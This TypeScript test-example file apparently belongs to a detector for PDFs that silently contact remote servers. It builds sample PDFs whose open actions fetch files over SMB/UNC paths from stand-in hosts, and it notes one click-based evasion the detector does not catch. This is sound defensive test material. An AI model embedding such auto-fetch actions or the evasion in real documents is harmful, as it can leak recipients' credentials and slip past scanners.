import type { Examples } from "@doorward/core";
import { makePdf } from "../example-pdf.ts";

/** PDFs that ask servers for files, and PDFs of an office. */
export const examples: Examples = {
  hits: [
    {
      name: "a document on a server when it is opened",
      delivered: true,
      files: {
        "Offer.pdf": makePdf({
          catalog: String.raw`/OpenAction << /S /GoToR /F (\\\\files.example\\s\\a.pdf) /D [0 /Fit] >>`,
        }),
      },
    },
    {
      name: "by the number of the server, when the page is shown",
      delivered: true,
      files: {
        "Offer.pdf": makePdf({
          page: String.raw`/AA << /O << /S /GoToE /F (\\\\192.0.2.7\\s\\a.pdf) /D [0 /Fit] >> >>`,
        }),
      },
    },
    {
      name: "data for a form",
      delivered: true,
      files: { "Form.pdf": makePdf({ catalog: "/OpenAction << /S /ImportData /F (file://files.example/s/a.fdf) >>" }) },
    },
  ],
  misses: [
    {
      name: "a document of an office that leads to another one",
      why: "It waits for a click, and the server is one of the office.",
      delivered: true,
      files: {
        "Handbook.pdf": makePdf({
          annotations: [String.raw`<< /Subtype /Link /A << /S /GoToR /F (\\\\server01\\docs\\b.pdf) /D [0 /Fit] >> >>`],
        }),
      },
    },
    {
      name: "a document that opens its second part",
      why: "The part lies beside it.",
      delivered: true,
      files: { "Part 1.pdf": makePdf({ catalog: "/OpenAction << /S /GoToR /F (Part 2.pdf) /D [0 /Fit] >>" }) },
    },
    {
      name: "a server of the private net when it is opened",
      why: "Nobody outside can listen there.",
      delivered: true,
      files: {
        "Plan.pdf": makePdf({ catalog: String.raw`/OpenAction << /S /GoToR /F (\\\\nas.local\\a.pdf) /D [0 /Fit] >>` }),
      },
    },
  ],
  evasions: [
    {
      name: "the same path behind a click",
      caughtBy: "nothing",
      delivered: true,
      files: {
        "Offer.pdf": makePdf({
          annotations: [
            String.raw`<< /Subtype /Link /A << /S /GoToR /F (\\\\files.example\\s\\a.pdf) /D [0 /Fit] >> >>`,
          ],
        }),
      },
    },
  ],
};
